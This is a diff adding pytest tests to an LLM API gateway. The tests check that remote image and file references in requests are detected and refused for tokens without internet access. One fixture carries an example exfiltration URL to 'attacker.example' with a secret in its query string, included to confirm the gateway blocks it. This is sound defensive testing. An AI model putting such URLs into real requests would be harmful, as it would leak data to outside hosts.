@@ -257,6 +257,21 @@ async def test_hosted_tools_and_stored_inputs_are_refused_or_dropped(
         status, _ = await _post(gw, allowed, {"messages": HI, "max_tokens": 5,
                                               "web_search_options": {}})
         assert status == 200 and rec.seen[-1]["web_search_options"] == {}
+        # review 2: an image URL the provider fetches (an exfiltration channel; input tokens
+        # its bytes do not bound) is refused without internet, a data: URL is not
+        leak = [{"role": "user", "content": [{"type": "image_url", "image_url": {
+            "url": "https://attacker.example/x.png?secret=1"}}]}]
+        token = gw.open_trial("t3", "up/m")
+        seen = len(rec.seen)
+        status, answer = await _post(gw, token, {"messages": leak, "max_tokens": 5})
+        assert status == 400 and "image_url.url" in answer["error"]["message"]
+        assert len(rec.seen) == seen
+        inline = [{"role": "user", "content": [{"type": "image_url", "image_url": {
+            "url": "data:image/png;base64,iVBORw0KGgo="}}]}]
+        status, _ = await _post(gw, token, {"messages": inline, "max_tokens": 5})
+        assert status == 200
+        status, _ = await _post(gw, allowed, {"messages": leak, "max_tokens": 5})
+        assert status == 200
     finally:
         await gw.stop()
 
@@ -270,6 +285,32 @@ async def test_hosted_tools_and_stored_inputs_are_refused_or_dropped(
 ])
 def test_hosted_fields_per_api(api: WireApi, body: dict[str, Any], field: str | None) -> None:
     assert hosted.hosted_field(api, body) == field
+
+
+@pytest.mark.parametrize(("body", "found"), [
+    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
+        "url": "https://a.example/i.png"}}]}]}, "image_url.url"),
+    ({"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "f"}}]}]},
+     "file.file_id"),
+    ({"input": [{"role": "user", "content": [{"type": "input_image",
+                                              "image_url": "https://a.example/i.png"}]}]},
+     "input_image.url"),
+    ({"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "f"}]}]},
+     "input_file.file_id"),
+    ({"messages": [{"role": "user", "content": [{"type": "tool_result", "content": [
+        {"type": "image", "source": {"type": "url", "url": "https://a.example/i"}}]}]}]},
+     "image.source.url"),
+    ({"contents": [{"parts": [{"file_data": {"file_uri": "https://youtube.com/watch?v=x"}}]}]},
+     "fileData.fileUri"),
+    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
+        "url": "data:image/png;base64,AAAA"}}, {"type": "image", "source": {
+            "type": "base64", "data": "AAAA"}}]}],
+      "tools": [{"type": "function", "function": {"name": "f", "parameters": {
+          "type": "object", "properties": {"image_url": {"type": "string"},
+                                           "file_id": {"type": "string"}}}}}]}, None),
+])
+def test_remote_inputs_are_found_in_every_api(body: dict[str, Any], found: str | None) -> None:
+    assert hosted.remote_input(body) == found
 
 
 @pytest.mark.parametrize(("api", "tools", "kept"), [
